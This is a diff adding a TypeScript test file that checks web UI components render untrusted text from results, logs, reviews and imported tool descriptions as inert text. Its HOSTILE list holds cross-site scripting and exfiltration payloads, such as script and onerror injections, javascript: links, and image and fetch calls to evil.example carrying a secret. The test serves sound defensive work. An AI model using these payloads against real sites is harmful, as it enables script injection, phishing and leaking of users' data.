@@ -1,0 +1,129 @@
+import { parseHTML } from 'linkedom';
+import { createElement, type ReactElement } from 'react';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { JobLog } from '../../components/jobs/job-log';
+import { ResultView } from '../../components/results/result-view';
+import { ReviewItem } from '../../components/site/review-item';
+import { SkillSection } from '../../components/site/skill-section';
+import { describeTool } from '../../server/catalog/describe-tool';
+import type { ToolFact } from '../../server/catalog/tool-facts';
+import { tools } from '../../server/tools/registry';
+import { Versions } from '../../server/versions/versions';
+
+/** What a page, a model or another's tool may say so that whoever looks at it asks somebody else, or runs something. */
+const HOSTILE = [
+  '![x](https://evil.example/a.png?secret=1)',
+  '[Claim your credit](https://evil.example/login)',
+  '<img src=https://evil.example/b.png onerror=alert(1)>',
+  '<a href="javascript:alert(1)">here</a>',
+  '<script>fetch("https://evil.example/c")</script>',
+  '<iframe src="https://evil.example/d"></iframe><link rel=stylesheet href=//evil.example/e.css>',
+  'https://evil.example/f javascript:alert(1) data:text/html,<script>alert(1)</script>',
+  '</script></pre></textarea><svg onload=alert(1)>',
+  ' data:image/png;base64,x" src="https://evil.example/g.png',
+  'data:image/svg+xml,"><script>alert(1)</script>',
+];
+const TEXT = HOSTILE.join('\n');
+
+/** What of a page asks an address or runs: nothing of it may come from a stranger's words. */
+function whatActs(element: ReactElement): string[] {
+  const { document } = parseHTML(`<main>${renderToStaticMarkup(element)}</main>`);
+  return [...document.querySelectorAll('main *')].flatMap((each) => {
+    const found = ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'LINK', 'STYLE', 'FORM', 'META', 'BASE'].includes(
+      each.tagName,
+    )
+      ? [each.tagName]
+      : [];
+    for (const { name, value } of [...each.attributes]) {
+      if (/^on/i.test(name)) found.push(`${each.tagName} ${name}`);
+      const isAddress = [
+        'href',
+        'src',
+        'srcset',
+        'action',
+        'formaction',
+        'poster',
+        'data',
+        'xlink:href',
+      ].includes(name);
+      // A picture that is in the output itself asks nobody, and as an image nothing in it runs.
+      if (
+        isAddress &&
+        !/^[/#](?!\/)/.test(value) &&
+        !(each.tagName === 'IMG' && value.startsWith('data:image/'))
+      )
+        found.push(`${each.tagName} ${name}=${value}`);
+    }
+    return found;
+  });
+}
+
+describe('what a stranger wrote is text, asks nobody and runs nothing', () => {
+  const now = new Date().toISOString();
+  const cases: [string, ReactElement][] = [
+    [
+      'a result',
+      createElement(ResultView, { output: { text: TEXT, list: HOSTILE, [TEXT]: { url: HOSTILE[0] } } }),
+    ],
+    [
+      'a picture in a result',
+      createElement(ResultView, {
+        output: { media_type: 'image/svg+xml', content: `<svg onload="alert(1)">${TEXT}</svg>` },
+      }),
+    ],
+    [
+      'a log',
+      createElement(JobLog, {
+        live: false,
+        lines: HOSTILE.map((message, at) => ({ seq: at + 1, at: now, message })),
+      }),
+    ],
+    [
+      'a review',
+      createElement(ReviewItem, {
+        review: { rating: 1, review: TEXT, verified: false, updated_at: now } as Parameters<
+          typeof ReviewItem
+        >[0]['review'],
+      }),
+    ],
+  ];
+  it.each(cases)('%s', (_, element) => {
+    expect(whatActs(element)).toEqual([]);
+    const { document } = parseHTML(`<main>${renderToStaticMarkup(element)}</main>`);
+    expect(document.querySelector('main')?.textContent).toContain('onload=');
+  });
+
+  it('the words of a tool that was imported', () => {
+    const tool = tools[0];
+    const skill = tool?.skills[0];
+    if (!tool || !skill) throw new Error('There are tools');
+    const versions = new Versions('http://gateway.test', { routes: {}, tools: {} });
+    const facts: ToolFact = {
+      rating: { average: null, count: 0 },
+      stats: { success_rate: null, p50_ms: null, calls_30d: 0 },
+      available: true,
+      unavailable_reason: null,
+    };
+    const hostile = { ...skill, displayName: TEXT, description: TEXT, returns: TEXT };
+    const described = describeTool(
+      { ...tool, displayName: TEXT, description: TEXT, skills: [hostile] },
+      { detail: true, facts, byokRate: 0.05, versions },
+    );
+    const [shown] = described.skills;
+    if (!shown) throw new Error('It has a skill');
+    const props = { tool: 'x', skill: shown, baseUrl: 'http://gateway.test', toolDeprecated: false };
+    const element = createElement(SkillSection, props);
+    expect(whatActs(element)).toEqual([]);
+    expect(renderToStaticMarkup(element)).toContain('evil.example');
+  });
+
+  it('is seen where it would act', () => {
+    const image = createElement('img', { src: 'https://evil.example/a.png', alt: '' });
+    const link = createElement('a', { href: 'https://evil.example/' }, 'x');
+    const script = createElement('script', {}, 'alert(1)');
+    const found = whatActs(createElement('div', {}, image, link, script));
+    for (const each of ['IMG src=https://evil.example/a.png', 'A href=https://evil.example/', 'SCRIPT'])
+      expect(found).toContain(each);
+  });
+});
